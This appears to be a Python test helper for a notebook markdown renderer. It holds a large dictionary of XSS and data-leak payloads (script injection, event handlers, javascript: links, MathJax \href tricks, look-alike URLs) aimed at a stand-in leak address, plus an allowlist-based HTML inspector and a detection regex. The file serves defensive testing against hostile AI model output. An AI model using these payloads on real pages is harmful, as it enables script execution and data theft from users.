r"""What a hostile model may write to get at the notebook, and what its HTML may contain at most.

Each payload tries to set ``window.__pwned`` or to fetch LEAK, an address that the test listens on.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

_JS = "window.__pwned=1"

PAYLOADS = {
    # raw HTML
    "script": f"<script>{_JS}</script>",
    "script src": "<script src='LEAK'></script>",
    "script split": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "script upper": f"<SCRIPT\n>{_JS}</SCRIPT >",
    "script in paragraph": f"Hello <script>{_JS}</script> world",
    "script in list": f"- a\n- <script>{_JS}</script>",
    "script in quote": f"> <script>{_JS}</script>",
    "script in heading": f"# a <img src=x onerror={_JS}>",
    "script in table": f"| a |\n|---|\n| <img src=x onerror={_JS}> |",
    "table cell breaks out": f"| a |\n|---|\n| </td></table><script>{_JS}</script> |",
    "table alignment": f'|a|\n|:-:"onclick="{_JS}|\n|b|',
    "img onerror": f"<img src=x onerror={_JS}>",
    "img slashes": f"<img/src='x'/onerror='{_JS}'>",
    "img src": "<img src=LEAK>",
    "img srcset": '<img srcset="LEAK 1x" src=x>',
    "svg onload": f"<svg onload={_JS}></svg>",
    "svg script": f"<svg><script>{_JS}</script></svg>",
    "svg animate": f"<svg><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="LEAK#x"/></svg>',
    "svg image": '<svg><image href="LEAK"/></svg>',
    "svg style": f"<svg></p><style><a id='</style><img src=1 onerror={_JS}>'>",
    "math mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={_JS}&gt;'>",
    "math href": f'<math href="javascript:{_JS}">x</math>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    "details": f"<details open ontoggle={_JS}>x</details>",
    "autofocus": f"<input autofocus onfocus={_JS}>",
    "body": f"<body onload={_JS}>",
    "video": f"<video><source onerror={_JS}></video>",
    "audio": f"<audio src=LEAK onerror={_JS}>",
    "marquee": f"<marquee onstart={_JS}>x</marquee>",
    "iframe": "<iframe src=LEAK></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{_JS.removeprefix('window.')}</script>'>",
    "iframe javascript": f"<iframe src='javascript:parent.{_JS.removeprefix('window.')}'></iframe>",
    "object": "<object data=LEAK></object>",
    "embed": "<embed src=LEAK>",
    "base": "<base href='LEAK/'>\n\n[a](b)",
    "meta refresh": "<meta http-equiv=refresh content='0;url=LEAK'>",
    "link stylesheet": "<link rel=stylesheet href=LEAK>",
    "link prefetch": "<link rel=prefetch href=LEAK>",
    "style import": "<style>@import 'LEAK';</style>",
    "style background": "<p style='background:url(LEAK)'>x</p>",
    "form": "<form action=LEAK><button autofocus>x</button></form>",
    "image empty": "![a]() ![b](<>) [c](<>)",
    "command linker": "<a commandlinker-command='terminal:create-new' href='#'>x</a>",
    "template": f"<template><script>{_JS}</script></template><img src=x onerror={_JS}>",
    "comment": f"<!-- --><img src=x onerror={_JS}><!-- -->",
    "comment bang": f"<!--!><img src=x onerror={_JS}>",
    "cdata": f"<![CDATA[<img src=x onerror={_JS}>]]>",
    "processing instruction": f"<?x ><img src=x onerror={_JS}>?>",
    "doctype": f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={_JS}>'>]>&y;",
    "entities": f"&lt;img src=x onerror={_JS}&gt; &#60;img src=x onerror={_JS}&#62;",
    "null byte": f"<scr\0ipt>{_JS}</scr\0ipt><img\0src=x onerror={_JS}>",
    "unclosed tag": f"<img src=x onerror={_JS} ",
    # links
    "javascript link": f"[a](javascript:{_JS})",
    "javascript upper": f"[a](JaVaScRiPt:{_JS})",
    "javascript entity": f"[a](&#106;avascript:{_JS}) [b](javascript&colon;{_JS})",
    "javascript tab": f"[a](java&Tab;script:{_JS}) [b](<java\tscript:{_JS}>)",
    "javascript newline": f"[a](java&NewLine;script:{_JS}) [b](&#1;javascript:{_JS})",
    "javascript percent": f"[a](javascript%3A{_JS}) [b](%6Aavascript:{_JS})",
    "javascript autolink": f"<javascript:{_JS}>",
    "javascript reference": f"[a][r]\n\n[r]: javascript:{_JS}",
    "javascript angle": f"[a](<javascript:{_JS}> 'title')",
    "vbscript": "[a](vbscript:msgbox(1))",
    "data link": f"[a](data:text/html,<script>{_JS}</script>)",
    "data image link": "[a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "file link": "[a](file:///etc/passwd)",
    "blob link": "[a](blob:http://127.0.0.1/x) [b](view-source:http://x) [c](ws://x)",
    "protocol relative": "[a](//evil.example/x) [b](/\\evil.example) [c](\\\\evil.example)",
    "relative": "[a](/lab/tree/x) [b](x.ipynb) [c](#x) [d](?x) [e](http:lab/tree) [f]()",
    "user info": "[a](https://bank.example@evil.example/)",
    "title": f"[a](http://x.example '\" onmouseover=\"{_JS}')",
    "quote in link": f'[a](http://x.example/"onmouseover="{_JS}) <http://x.example/"onclick="a>',
    "link text": f"[<img src=x onerror={_JS}>](http://x.example)",
    # pictures
    "image": "![a](LEAK)",
    "image with data": "![a](LEAK?secret 'title')",
    "image reference": "![a][r] ![r] ![r][]\n\n[r]: LEAK",
    "image in link": "[![a](LEAK)](http://x.example)",
    "image in image": "![![a](LEAK)](LEAK)",
    "image in table": "|![a](LEAK)|\n|-|\n|![b](LEAK)|",
    "image in heading": "# ![a](LEAK)",
    "image alt": f'![" onerror="{_JS}](LEAK) ![<img src=LEAK>](LEAK)',
    "image data": f"![a](data:image/svg+xml,<svg onload={_JS}>)",
    "image relative": "![a](/api/contents) ![b](//evil.example/x)",
    "image attributes": f"![a](LEAK){{onload={_JS}}}",
    # fences
    "fence language": f'```"><script>{_JS}</script>\nx\n```',
    "fence language entity": f"```&quot;&gt;&lt;img/src=x/onerror={_JS}&gt;\nx\n```",
    "fence class": f"```python'onclick='{_JS}\nx\n```",
    "fence breaks out": f"```html\n</code></pre><script>{_JS}</script>\n```",
    "fence mermaid": f'```mermaid\ngraph LR\nA-->B\nclick A href "javascript:{_JS}"\n```',
    "fence in python": f"```python\nx = '</span><img src=x onerror={_JS}>'\n```",
    "indented code": f"    </code></pre><script>{_JS}</script>",
    "code span": f"`</code><script>{_JS}</script>`",
    # formulas
    "tex html": rf"$x<img src=x onerror={_JS}>$ \(<script>{_JS}</script>\)",
    "tex href": rf"$\href{{javascript:{_JS}}}{{x}}$ $$\href{{LEAK}}{{y}}$$",
    "tex href brackets": rf"\(\href{{javascript:{_JS}}}{{x}}\)" "\n\n\\[\n\\href{LEAK}{y}\n\\]",
    "tex undelimited": rf"\begin{{align}}\href{{javascript:{_JS}}}{{x}}\end{{align}}",
    "tex money": rf"It costs $5 \href{{javascript:{_JS}}}{{x}} and $6",
    "tex style": r"$\style{background:url(LEAK)}{x}$ $\bbox[background:url(LEAK)]{x}$",
    "tex fcolorbox": r"$\fcolorbox{red;background:url(LEAK)}{white}{x}$",
    "tex token": rf'$\mmlToken{{mi}}[href="javascript:{_JS}"]{{x}}$',
    "tex id": r"$\cssId{jp-main-dock-panel}{\class{jp-Button}{x}}$ $\data{x=y}{z}$",
    "tex require": r"$\require{html}\unicode[url(LEAK)]{65}$",
    "tex define": rf"$\def\frac#1#2{{\href{{javascript:{_JS}}}{{#1}}}}$ $\let\sum\href$",
    "tex newcommand": r"$\newcommand{\sum}{\href{LEAK}}\sum{x}$",
    "tex text": rf"$\text{{\href{{javascript:{_JS}}}{{x}}}}$",
    "tex environment": "\\begin{align}\n\\href{LEAK}{y}\n\\end{align}",
    "tex environment closes": "\\begin{align}\n</div>\\]\\href{LEAK}{y}\\[\n\\end{align}",
    "tex environment in list": "- \\begin{align}\n\\style{background:url(LEAK)}{x}\n\\end{align}",
    "task": f'- [ ] <img src=x onerror={_JS}>\n- [x] ![a](LEAK)\n- [ ]"onclick={_JS}',
    "task link": f"- [x] a\n\n[x]: javascript:{_JS}",
    "task in note": f"[^x]: - [ ] <img src=x onerror={_JS}>",
    # addresses, notes and the few elements
    "bare address": f'http://x.example/"onmouseover="{_JS} https://x.example/<img/src=x/onerror={_JS}>',
    "bare address quote": f"https://x.example/'onmouseover='{_JS} www.x.example/`onclick={_JS}`",
    "bare address user": "https://bank.example@evil.example/ https://bank.example:443@evil.example",
    "bare address backslash": "https://bank.example\\@evil.example/ https:\\evil.example",
    "bare address script": f"javascript:{_JS} http:javascript:{_JS} www.javascript:{_JS} http://javascript:{_JS}",
    "bare address relative": "http:lab/tree http:///lab/tree https:/lab www. http://. http://-/ www./x",
    "bare address letters": "https://b\u0430nk.example/ https://bank\u2024example/ https://a.b\u202e/gnp.exe",
    "bare address in emphasis": f"**https://x.example/**<img src=x onerror={_JS}>** www.x.example_<b>_",
    "bare address in link": "[https://bank.example](https://x.example) [www.a.b](javascript:x) [http://a.b]()",
    "bare image": "![https://a.b](LEAK) https://a.b/![x](LEAK)",
    "note script": f"a[^1] <script>{_JS}</script>\n\n[^1]: <script>{_JS}</script>",
    "note label": f"a[^<img/src=x/onerror={_JS}>]\n\n[^<img/src=x/onerror={_JS}>]: b",
    "note label quote": f'a[^"onclick="{_JS}] [^&quot;]\n\n[^"onclick="{_JS}]: b\n\n[^&quot;]: c',
    "note id": "a[^jp-main-dock-panel] [^__proto__] \n\n[^jp-main-dock-panel]: b\n[^__proto__]: c",
    "note image": "a[^1]\n\n[^1]: ![a](LEAK)\n\n    ![b](LEAK)\n\n    [^2]: ![c](LEAK)",
    "note link": f"a[^1][^r]\n\n[^1]: [b](javascript:{_JS})\n[^r]: javascript:{_JS}",
    "note in itself": "[^1]: [^1]: [^1] a[^1]\n\n[^1]",
    "note in table": "|a[^1]|\n|-|\n|[^1]: </td><img src=LEAK>|\n\n[^1]: |x|\n    |-|\n",
    "element attributes": f"<sub onclick={_JS}>a</sub> <br onload={_JS}> <kbd/onclick={_JS}>a</kbd>",
    "element inside": f"<sub><img src=x onerror={_JS}></sub> <sup>a</sub> <kbd>![a](LEAK)</kbd> <BR/>",
    "right to left": f'\u05d0 `"dir="` <img src=x onerror={_JS}>\n- ![a](LEAK) <script>{_JS}</script>',
    "blank lines": f"```\na\n\n![a](LEAK)\n \t\n<img src=x onerror={_JS}>\n```\n\n    x\n\n\n    ![a](LEAK)",
    "math fence": f"```math\n\\href{{javascript:{_JS}}}{{x}}\n```\n```math\n</div><img src=LEAK>",
    "math open": f"$$\n\\href{{javascript:{_JS}}}{{x}} <img src=x onerror={_JS}>",
    "math open environment": f"\\begin{{align}}\n\\href{{LEAK}}{{y}}</pre><script>{_JS}</script>",
    "tex image": r"$\includegraphics{LEAK}$ $\htmlStyle{background:url(LEAK)}{x}$",
}


def payloads(leak: str = "http://leak.example/leak") -> dict[str, str]:
    """Return the payloads with an address of the caller's to leak to."""
    return {
        name: text.replace("LEAK", f"{leak}/{name.replace(' ', '-')}")
        for name, text in PAYLOADS.items()
    }


def violations(html: str) -> list[str]:
    """Return what a fragment of `llm_magic.notebook.display.markdown` contains but must not."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.violations


_TAGS = (
    "a blockquote br code div em h1 h2 h3 h4 h5 h6 hr input kbd label li ol p pre s span strong sub sup "
    "table tbody td th thead tr ul"
)
_VOID = ("br", "hr", "input")
_CLASSES = {
    "div": "mathjax_ignore tex2jax_ignore|mathjax_process tex2jax_process",
    "span": "mathjax_process tex2jax_process",
    "code": r"language-[a-z0-9+#-]{1,30}",
    "input": "task-list-item-checkbox",
}
_COLOR = r"color:var\(--jp-mirror-editor-[a-z0-9-]+-color, #[0-9a-f]{6}\)"
_PROPERTIES = """
background border border-left border-radius border-right direction display font-size font-weight list-style
margin max-width min-width opacity overflow-wrap overflow-x overflow-y padding padding-left
text-align unicode-bidi vertical-align white-space word-break
"""
_BLOCK = rf"(?:(?:{'|'.join(_PROPERTIES.split())}):(?:[a-z0-9. %-]|rgba\([0-9.,]+\))+;?)+"
_STYLED = "blockquote code div h1 h2 h3 h4 h5 h6 li ol p pre ul"
_STYLES = {
    "span": f"{_COLOR}|{_BLOCK}",
    "td": "text-align:(left|right|center)",
    "th": "text-align:(left|right|center)",
    **dict.fromkeys(_STYLED.split(), _BLOCK),
}
_DIRECTED = "blockquote code div h1 h2 h3 h4 h5 h6 ol p span table ul"
_VALUES = {
    ("a", "href"): r"(?:https?://[a-z0-9[]|mailto:)[^\s\"<>]*",
    ("a", "rel"): "noopener noreferrer nofollow",
    ("a", "target"): "_blank",
    ("ol", "start"): r"\d+",
    ("input", "type"): "checkbox",
    ("input", "disabled"): "disabled",
    ("input", "checked"): "checked",
    **{(tag, "dir"): "ltr|rtl" for tag in _DIRECTED.split()},
    **{(tag, "class"): pattern for tag, pattern in _CLASSES.items()},
    **{(tag, "style"): pattern for tag, pattern in _STYLES.items()},
}
_EVIL_TEX = re.compile(
    r"\\(?:href|url|style|class|cssId|data|require|unicode|mmlToken|bbox|f?colorbox|def|let|"
    r"(?:re)?new|Declare|html|include|label|toggle)"
)


class _Inspector(HTMLParser):
    """Compare every tag and attribute with the lists above, and the TeX that gets typeset."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.violations: list[str] = []
        self._open: list[tuple[str, bool]] = [("", False)]  # the tag, and whether it is typeset

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS.split():
            self.violations.append(f"<{tag}>")
        for name, value in attrs:
            allowed = _VALUES.get((tag, name))
            if allowed is None or not re.fullmatch(allowed, value or "", re.IGNORECASE):
                self.violations.append(f"<{tag} {name}={value!r}>")
        if tag == "input" and not {("type", "checkbox"), ("disabled", "disabled")} <= set(attrs):
            self.violations.append("<input> that is not a disabled check box")
        if tag not in _VOID:
            typeset = "mathjax_process" in (dict(attrs).get("class") or "")
            self._open.append((tag, typeset))

    def handle_endtag(self, tag: str) -> None:
        if tag not in _VOID and (len(self._open) < 2 or self._open.pop()[0] != tag):
            self.violations.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        if self._open[-1][1] and _EVIL_TEX.search(data):
            self.violations.append(data)

    def handle_comment(self, data: str) -> None:
        self.violations.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.violations.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.violations.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.violations.append(f"<?{data}>")
